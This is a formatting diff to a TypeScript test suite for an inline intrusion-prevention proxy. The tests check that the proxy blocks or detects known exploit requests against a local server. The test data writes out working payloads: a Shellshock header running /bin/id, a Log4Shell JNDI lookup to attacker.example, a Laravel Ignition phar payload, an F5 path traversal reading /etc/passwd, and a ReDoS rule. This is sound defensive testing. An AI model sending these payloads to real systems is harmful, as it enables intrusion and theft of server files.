@@ -110,7 +110,8 @@ describe('IPS inline proxy in prevent mode with the virtual patch pack', () => {
       for (const e of p.exploits) {
         const before = upstream.seen.length;
         const res = await sendRaw({ host: '127.0.0.1', port }, serializeRequest(e, `127.0.0.1:${port}`));
-        if (res.status !== 403 || upstream.seen.length !== before) leaked.push(`${e.id}: status ${res.status}, upstream saw ${upstream.seen.length - before}`);
+        if (res.status !== 403 || upstream.seen.length !== before)
+          leaked.push(`${e.id}: status ${res.status}, upstream saw ${upstream.seen.length - before}`);
       }
     }
     assert.deepEqual(leaked, []);
@@ -127,7 +128,8 @@ describe('IPS inline proxy in prevent mode with the virtual patch pack', () => {
           problems.push(`${b.id}: status ${res.status}`);
           continue;
         }
-        if (got.method !== b.method || got.url !== Buffer.from(b.uri, 'utf8').toString('latin1')) problems.push(`${b.id}: request line changed to ${got.method} ${got.url}`);
+        if (got.method !== b.method || got.url !== Buffer.from(b.uri, 'utf8').toString('latin1'))
+          problems.push(`${b.id}: request line changed to ${got.method} ${got.url}`);
         if (!got.body.equals(Buffer.from(b.body, 'utf8'))) problems.push(`${b.id}: body changed`);
         for (const [k, v] of b.headers) {
           if (k.toLowerCase() === 'connection') continue;
@@ -141,7 +143,14 @@ describe('IPS inline proxy in prevent mode with the virtual patch pack', () => {
 
   test('events carry rule id, CVE, peer and the client address derived from X-Forwarded-For', async () => {
     const s2045 = patches.find((p) => p.meta.id === 'CVE-2017-5638')!.exploits[0]!;
-    const withXff: typeof s2045 = { ...s2045, headers: [...s2045.headers, ['X-Forwarded-For', '198.51.100.23, 127.0.0.9'] as [string, string], ['Cookie', 'sid=secret-cookie-value']] };
+    const withXff: typeof s2045 = {
+      ...s2045,
+      headers: [
+        ...s2045.headers,
+        ['X-Forwarded-For', '198.51.100.23, 127.0.0.9'] as [string, string],
+        ['Cookie', 'sid=secret-cookie-value'],
+      ],
+    };
     const n = events.length;
     for (let i = 0; i < 3; i++) assert.equal((await sendRaw({ host: '127.0.0.1', port }, serializeRequest(withXff, 'x'))).status, 403);
     const fresh = events.slice(n).filter((e) => (e.details as { clientAddress: string }).clientAddress === '198.51.100.23');
@@ -174,7 +183,15 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
   });
 
   async function startWith(settings: Record<string, unknown>, mode: ModuleConfig['mode'] = 'prevent', events: ModuleEventInput[] = []) {
-    const config: ModuleConfig = { enabled: true, mode, settings: { services: [{ name: 'app', listen: { host: '127.0.0.1', port: 0 }, upstream: { host: '127.0.0.1', port: upstream.port } }], ruleSets: { patches: { dir: packDir } }, ...settings } };
+    const config: ModuleConfig = {
+      enabled: true,
+      mode,
+      settings: {
+        services: [{ name: 'app', listen: { host: '127.0.0.1', port: 0 }, upstream: { host: '127.0.0.1', port: upstream.port } }],
+        ruleSets: { patches: { dir: packDir } },
+        ...settings,
+      },
+    };
     const m = new IpsModule({ flushIntervalMs: 100_000 });
     assert.deepEqual(m.configure(config), []);
     await m.start(ctxFor(config, events, dir));
@@ -202,10 +219,19 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
       agent.destroy();
       const before = upstream.seen.length;
       const status = await new Promise<number>((res, rej) => {
-        const r = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/_ignition/execute-solution', headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' } }, (resp) => {
-          resp.resume();
-          res(resp.statusCode!);
-        });
+        const r = http.request(
+          {
+            host: '127.0.0.1',
+            port,
+            method: 'POST',
+            path: '/_ignition/execute-solution',
+            headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
+          },
+          (resp) => {
+            resp.resume();
+            res(resp.statusCode!);
+          },
+        );
         r.on('error', rej);
         r.write('{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x",');
         r.end('"viewFile":"phar://../storage/logs/laravel.log/test.txt"}}');
@@ -213,10 +239,19 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
       assert.equal(status, 403);
       assert.equal(upstream.seen.length, before);
       const okStatus = await new Promise<number>((res, rej) => {
-        const r = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/notes', headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' } }, (resp) => {
-          resp.resume();
-          res(resp.statusCode!);
-        });
+        const r = http.request(
+          {
+            host: '127.0.0.1',
+            port,
+            method: 'POST',
+            path: '/api/notes',
+            headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
+          },
+          (resp) => {
+            resp.resume();
+            res(resp.statusCode!);
+          },
+        );
         r.on('error', rej);
         r.write('{"title":"Groceries",');
         r.end('"items":["milk","bread"]}');
@@ -234,7 +269,9 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
       const talk = (extra: string) =>
         new Promise<string>((res) => {
           const s = net.connect(port, '127.0.0.1', () => {
-            s.write(`GET /chat HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${extra}\r\n`);
+            s.write(
+              `GET /chat HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${extra}\r\n`,
+            );
           });
           let buf = '';
           s.on('data', (d) => {
@@ -259,21 +296,42 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
     const events: ModuleEventInput[] = [];
     const { m, port } = await startWith({}, 'detect', events);
     try {
-      const r = await sendRaw({ host: '127.0.0.1', port }, serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'));
+      const r = await sendRaw(
+        { host: '127.0.0.1', port },
+        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'),
+      );
       assert.equal(r.status, 200);
       assert.equal(events.at(-1)?.type, 'ips.detected');
     } finally {
       await m.stop();
     }
     const ev2: ModuleEventInput[] = [];
-    const o = await startWith({ overrides: [{ ruleId: 9500080, action: 'detect' }, { ruleId: 9500050, action: 'disable' }] }, 'prevent', ev2);
+    const o = await startWith(
+      {
+        overrides: [
+          { ruleId: 9500080, action: 'detect' },
+          { ruleId: 9500050, action: 'disable' },
+        ],
+      },
+      'prevent',
+      ev2,
+    );
     try {
-      const shell = await sendRaw({ host: '127.0.0.1', port: o.port }, serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'));
+      const shell = await sendRaw(
+        { host: '127.0.0.1', port: o.port },
+        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'),
+      );
       assert.equal(shell.status, 200);
       assert.equal(ev2.at(-1)?.type, 'ips.detected');
-      const log4 = await sendRaw({ host: '127.0.0.1', port: o.port }, serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '${jndi:ldap://attacker.example/a}']], body: '' }, 'x'));
+      const log4 = await sendRaw(
+        { host: '127.0.0.1', port: o.port },
+        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '${jndi:ldap://attacker.example/a}']], body: '' }, 'x'),
+      );
       assert.equal(log4.status, 200, 'disabled rule does not block');
-      const other = await sendRaw({ host: '127.0.0.1', port: o.port }, serializeRequest({ method: 'GET', uri: '/SetupWizard.aspx/x', headers: [], body: '' }, 'x'));
+      const other = await sendRaw(
+        { host: '127.0.0.1', port: o.port },
+        serializeRequest({ method: 'GET', uri: '/SetupWizard.aspx/x', headers: [], body: '' }, 'x'),
+      );
       assert.equal(other.status, 403, 'other rules still block');
     } finally {
       await o.m.stop();
@@ -288,9 +346,19 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
       const { m, port } = await startWith({ failMode }, 'prevent', events);
       try {
         const proxy = (m as unknown as { proxies: Map<string, { update(o: unknown): void }> }).proxies.get('app')!;
-        proxy.update({ ruleSet: { config: { ruleEngine: 'On', requestBodyAccess: true, requestBodyLimit: 1 << 20 }, phases: null, rules: [], ruleCount: 0 } });
+        proxy.update({
+          ruleSet: {
+            config: { ruleEngine: 'On', requestBodyAccess: true, requestBodyLimit: 1 << 20 },
+            phases: null,
+            rules: [],
+            ruleCount: 0,
+          },
+        });
         const before = upstream.seen.length;
-        const r = await sendRaw({ host: '127.0.0.1', port }, serializeRequest({ method: 'GET', uri: '/health', headers: [], body: '' }, 'x'));
+        const r = await sendRaw(
+          { host: '127.0.0.1', port },
+          serializeRequest({ method: 'GET', uri: '/health', headers: [], body: '' }, 'x'),
+        );
         if (failMode === 'open') {
           assert.equal(r.status, 200);
           assert.equal(upstream.seen.length, before + 1);
@@ -310,7 +378,10 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
     const rej = await startWith({ bodyLimit: 1024 });
     try {
       const before = upstream.seen.length;
-      const r = await sendRaw({ host: '127.0.0.1', port: rej.port }, serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'application/json']], body: big }, 'x'));
+      const r = await sendRaw(
+        { host: '127.0.0.1', port: rej.port },
+        serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'application/json']], body: big }, 'x'),
+      );
       assert.equal(r.status, 413);
       assert.equal(upstream.seen.length, before);
     } finally {
@@ -318,7 +389,10 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
     }
     const part = await startWith({ bodyLimit: 1024, bodyLimitAction: 'ProcessPartial' });
     try {
-      const r = await sendRaw({ host: '127.0.0.1', port: part.port }, serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'text/plain']], body: big }, 'x'));
+      const r = await sendRaw(
+        { host: '127.0.0.1', port: part.port },
+        serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'text/plain']], body: big }, 'x'),
+      );
       assert.equal(r.status, 200);
       assert.equal(upstream.seen.at(-1)!.body.toString(), big);
     } finally {
@@ -332,9 +406,14 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
     const evil = { seclang: [{ name: 'redos', text: String.raw`SecRule ARGS:q "@rx ^(a+)+\1$" "id:9599901,phase:2,pass,nolog,t:none"` }] };
     for (const failMode of ['closed', 'open'] as const) {
       const events: ModuleEventInput[] = [];
-      const { m, port } = await startWith({ failMode, engineWorker: { timeoutMs: 300 }, ruleSets: { patches: { dir: packDir }, ...evil } }, 'prevent', events);
+      const { m, port } = await startWith(
+        { failMode, engineWorker: { timeoutMs: 300 }, ruleSets: { patches: { dir: packDir }, ...evil } },
+        'prevent',
+        events,
+      );
       try {
-        const send = (uri: string, headers: [string, string][] = []) => sendRaw({ host: '127.0.0.1', port }, serializeRequest({ method: 'GET', uri, headers, body: '' }, 'x'));
+        const send = (uri: string, headers: [string, string][] = []) =>
+          sendRaw({ host: '127.0.0.1', port }, serializeRequest({ method: 'GET', uri, headers, body: '' }, 'x'));
         assert.equal((await send('/ok?q=hello')).status, 200);
         assert.equal((await send('/', [['User-Agent', '() { :; }; /bin/id']])).status, 403, 'the worker blocks exploits');
         const t0 = performance.now();
@@ -358,15 +437,52 @@ describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mod
   test('TLS termination with a given certificate', async () => {
     const cert = join(dir, 'c.pem');
     const key = join(dir, 'k.pem');
-    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=localhost'], { stdio: 'ignore' });
-    const config: ModuleConfig = { enabled: true, mode: 'prevent', settings: { services: [{ name: 'tls', listen: { host: '127.0.0.1', port: 0 }, upstream: { host: '127.0.0.1', port: upstream.port }, tls: { certFile: cert, keyFile: key } }], ruleSets: { patches: { dir: packDir } } } };
+    execFileSync(
+      'openssl',
+      ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=localhost'],
+      { stdio: 'ignore' },
+    );
+    const config: ModuleConfig = {
+      enabled: true,
+      mode: 'prevent',
+      settings: {
+        services: [
+          {
+            name: 'tls',
+            listen: { host: '127.0.0.1', port: 0 },
+            upstream: { host: '127.0.0.1', port: upstream.port },
+            tls: { certFile: cert, keyFile: key },
+          },
+        ],
+        ruleSets: { patches: { dir: packDir } },
+      },
+    };
     const m = new IpsModule();
     assert.deepEqual(m.configure(config), []);
     await m.start(ctxFor(config, [], dir));
     try {
       const port = m.listening().tls!.port;
-      assert.equal((await sendRaw({ host: '127.0.0.1', port, tls: true }, serializeRequest({ method: 'GET', uri: '/index.html', headers: [], body: '' }, 'x'))).status, 200);
-      assert.equal((await sendRaw({ host: '127.0.0.1', port, tls: true }, serializeRequest({ method: 'GET', uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', headers: [], body: '' }, 'x'))).status, 403);
+      assert.equal(
+        (
+          await sendRaw(
+            { host: '127.0.0.1', port, tls: true },
+            serializeRequest({ method: 'GET', uri: '/index.html', headers: [], body: '' }, 'x'),
+          )
+        ).status,
+        200,
+      );
+      assert.equal(
+        (
+          await sendRaw(
+            { host: '127.0.0.1', port, tls: true },
+            serializeRequest(
+              { method: 'GET', uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', headers: [], body: '' },
+              'x',
+            ),
+          )
+        ).status,
+        403,
+      );
     } finally {
       await m.stop();
     }
